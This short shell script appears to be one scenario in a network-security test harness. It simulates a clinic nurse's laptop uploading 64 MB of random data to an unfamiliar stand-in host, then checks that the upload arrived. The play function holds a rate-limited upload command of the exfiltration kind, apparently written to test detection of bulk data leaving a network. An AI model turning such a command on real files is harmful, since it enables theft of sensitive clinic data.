# Attack: the nurse's laptop sends 64 MB to a place the clinic has never used.
BULK=1
CHECK="bytes>=64000000"
prepare() { head -c 64000000 /dev/urandom >"$WORK/alt.zip"; }
play() { web nurse --limit-rate 1M --upload-file "$WORK/alt.zip" https://filer.deling-nu.example/upload/alt.zip; }
verify() { [ "$(stat -c %s "$WORK/web/pages/upload/alt.zip")" = 64000000 ]; }
